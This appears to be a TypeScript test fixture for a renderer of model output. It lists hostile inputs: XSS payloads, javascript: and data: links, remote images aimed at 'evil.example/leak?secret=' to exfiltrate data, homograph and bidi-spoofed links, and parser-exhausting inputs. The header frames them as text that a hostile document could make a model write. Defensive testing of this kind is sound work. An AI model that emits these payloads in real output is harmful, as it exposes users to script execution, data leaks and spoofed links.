/** A text that a hostile document could make a model write. */
interface Hostile {
  name: string;
  text: string;
}

const REMOTE = 'https://evil.example/leak?secret=1';

/** HTML that must appear as text. */
const HTML = {
  script: '<script>alert(1)</script>',
  'script in a paragraph': 'Hello <script src="https://evil.example/x.js"></script> you',
  'script in mixed case': '<ScRiPt>alert(1)</sCrIpT>',
  'unclosed script': '<script>alert(1)',
  'event handler': '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  'image with an error handler': '<img src=x onerror=alert(1)>',
  'image with srcset': `<img srcset="${REMOTE} 1x">`,
  'picture and source': `<picture><source srcset="${REMOTE}"></picture>`,
  svg: '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  mathml: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  iframe: '<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe>',
  'object and embed': `<object data="${REMOTE}"></object><embed src="${REMOTE}">`,
  'style element': `<style>body { background: url(${REMOTE}) }</style>`,
  'style attribute': `<p style="background: url(${REMOTE}); width: expression(alert(1))">x</p>`,
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  base: '<base href="https://evil.example/">',
  form: '<form action="https://evil.example"><input name=token autofocus onfocus=alert(1)><button>Send</button></form>',
  'stylesheet link': `<link rel="stylesheet" href="${REMOTE}">`,
  video: `<video poster="${REMOTE}" src="${REMOTE}" autoplay></video>`,
  details: '<details open ontoggle=alert(1)><summary>x</summary></details>',
  'HTML comment': '<!-- --><img src=x onerror=alert(1)> -->',
  'broken HTML comment': '<!--><script>alert(1)</script>',
  CDATA: '<![CDATA[<script>alert(1)</script>]]>',
  'processing instruction': '<?php echo "<script>alert(1)</script>" ?>',
  'mutation of noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'anchor of HTML': '<a href="javascript:alert(1)" ping="https://evil.example">x</a>',
  'HTML in a table': '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  'HTML of entities': '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
};

/** Links whose target must not be reached, or must be shown. */
const LINKS = {
  javascript: '[x](javascript:alert(1))',
  'javascript in mixed case': '[x](JaVaScRiPt:alert(1))',
  'javascript with entities': '[x](&#106;&#x61;vascript&colon;alert(1))',
  'javascript with a tab and a line end as entities': '[x](java&Tab;scr&NewLine;ipt:alert(1))',
  'javascript with a raw tab': '[x](<java\tscript:alert(1)>)',
  'javascript with percent signs': '[x](javascript%3Aalert(1)) [y](%6Aavascript:alert(1))',
  'javascript after a control character': '[x](<\u0001javascript:alert(1)>)',
  'javascript after spaces': '[x](<  javascript:alert(1)>)',
  'javascript as an autolink': '<javascript:alert(1)>',
  'javascript by reference': '[x][r]\n\n[r]: javascript:alert(1)',
  'javascript with a comment of a host': '[x](javascript://example.com/%0Aalert(1))',
  vbscript: '[x](vbscript:msgbox(1))',
  'data page': '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'blob, file and view-source':
    '[x](blob:https://evil.example/1) [y](file:///etc/passwd) [z](view-source:https://evil.example)',
  'app schemes': '[x](tel:1) [y](ms-word:ofe|u|https://evil.example) [z](intent://evil.example#Intent;end)',
  'title with quotes': '[x](https://evil.example "\\" onmouseover=alert(1) x=\\"")',
  'quotes in the address': '[x](https://evil.example/"onmouseover="alert(1))',
  'file name':
    'Read `"><img src=x onerror=alert(1)>.html` and ["><img src=x onerror=alert(1)>.html](https://evil.example/f)',
  'protocol-relative': '[x](//evil.example/x) [y](////evil.example)',
  backslashes: '[x](\\\\\\\\evil.example\\\\x) [y](https:\\\\\\\\evil.example) [z](/\\\\evil.example)',
  'relative address of the console': '[Sign out](/console/session) [x](../admin) [y](?a=1) [z](#main)',
  'user name that looks like a host': '[x](https://bank.example@evil.example/) https://bank.example:pass@evil.example/',
  'text of another address': '[https://bank.example](https://evil.example)',
  'text of an address with another path': '[bank.example/safe](https://bank.example.evil.example/safe)',
  'Cyrillic homograph': '[https://аpple.com](https://аpple.com) https://аpple.com',
  'full-width dots and letters': '[x](https://ｅｖｉｌ。example/)',
  'bidi override in the text': '[\u202Emoc.elpmaxe.knab\u202C](https://evil.example) &#x202E;gnp.exe `\u2066x\u2069`',
  'mail with hidden recipients':
    '[mail](mailto:a@b.example?bcc=evil@evil.example&body=secret) <mailto:x%0d%0abcc:y@z.example>',
  'nested brackets': '[[[x](https://evil.example)](javascript:alert(1))](data:text/html,x)',
  'link without text': '[](https://evil.example) [ ](javascript:alert(1))',
  'definition of a prototype name':
    '[x][__proto__] [y][constructor]\n\n[__proto__]: javascript:alert(1)\n[constructor]: https://evil.example',
};

/** Images that must not be loaded. */
const IMAGES = {
  'remote image': `![alt](${REMOTE})`,
  'image by reference': `![alt][r]\n\n[r]: ${REMOTE}`,
  'image in a link': `[![alt](${REMOTE})](${REMOTE})`,
  'image in a table': `| a |\n|---|\n| ![alt](${REMOTE}) |`,
  'image in a footnote': `x[^1]\n\n[^1]: ![alt](${REMOTE})`,
  'image in a heading and a task': `# ![alt](${REMOTE})\n\n- [x] ![alt](${REMOTE})`,
  'image of data': '![alt](data:image/svg+xml,<svg/onload=alert(1)>)',
  'image of javascript': '![alt](javascript:alert(1))',
  'protocol-relative image': '![alt](//evil.example/x.png)',
  'relative image': '![alt](/console/session)',
  'quotes in the alternative text': `![" onerror="alert(1)](${REMOTE})`,
  'link in the alternative text': `![[x](javascript:alert(1))](${REMOTE})`,
  'address of an image as an autolink': `<https://evil.example/x.png> https://evil.example/y.png www.evil.example/z.png`,
  'unfinished image': 'x ![alt](https://evil.example/leak?secret=',
};

/** Texts that try the parser. */
const SHAPES = {
  'unclosed fence': '```js\n<script>alert(1)</script>\n\n![alt](https://evil.example)',
  'prototype name as a language': '```__proto__\nx\n```\n\n```constructor\ny\n```\n\n```"><script>\nz\n```',
  'fence with attributes': '```js {onclick=alert(1)} title="x"\ny\n```',
  math: '$$\\href{javascript:alert(1)}{x}$$ $\\includegraphics{https://evil.example}$',
  'null bytes': '[x](java\u0000script:alert(1)) <scr\u0000ipt>alert(1)</scr\u0000ipt>',
  templates: '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= alert(1) %>',
  'heading with an id': '# location\n\n## __proto__ {#id onclick=alert(1)}',
  'footnote of a prototype name': 'x[^__proto__] y[^"onclick]\n\n[^__proto__]: z\n[^"onclick]: w',
  'deep quotes': '>'.repeat(10_000),
  'deep quotes with spaces': `${'> '.repeat(10_000)}x`,
  'deep lists': `${'- '.repeat(10_000)}x`,
  'deep numbered lists': `${'1. '.repeat(10_000)}x`,
  'lists that grow deeper': Array.from({ length: 300 }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n'),
  'deep footnotes': '[^a]: '.repeat(10_000),
  'open brackets': '['.repeat(10_000),
  'open images': '!['.repeat(10_000),
  'balanced brackets': '['.repeat(10_000) + ']'.repeat(10_000),
  'open links': '[a]('.repeat(10_000),
  'open emphasis': '*a **b _c '.repeat(5_000),
  'nested emphasis': `${'*a '.repeat(700)}${' b*'.repeat(700)}`,
  'many backticks': Array.from({ length: 300 }, (_, length) => `a${'`'.repeat(length)}`).join(''),
  'very long fences': `${'`'.repeat(40_000)}\nx\n${'`'.repeat(40_000)}`,
  'very long word': 'x'.repeat(99_000),
  'many headings': 'a\n=\n'.repeat(490),
  'more headings': 'a\n=\n'.repeat(20_000),
  'many blocks': 'a\n\n'.repeat(20_000),
  'table of millions of empty cells': `${'|a'.repeat(2_000)}\n${'|-'.repeat(2_000)}\n${'|\n'.repeat(2_900)}`,
  'table of millions of empty cells in a quote': `> ${'|a'.repeat(2_000)}\n> ${'|-'.repeat(2_000)}\n${'> |\n'.repeat(2_900)}`,
  'row of bars that is none': `-${'|'.repeat(99_000)}x`,
  'many unclosed instructions': `a ${'<?'.repeat(49_000)}`,
  'many unclosed comments': 'a <!--b '.repeat(12_000),
  'many unclosed tags': 'a <b c="'.repeat(12_000),
  'long address by many references': `${'[x][r]\n\n'.repeat(1_400)}[r]: https://evil.example/${'x'.repeat(80_000)}`,
  'very deep indent': `- a\n${' '.repeat(50_000)}- b`,
  'longer than the limit': 'x **y** ![alt](https://evil.example)\n\n'.repeat(4_000),
};

const all = { ...HTML, ...LINKS, ...IMAGES, ...SHAPES };

/** For tests of what shows the text of a model. */
export const HOSTILE: Hostile[] = Object.entries(all).map(([name, text]) => ({ name, text }));
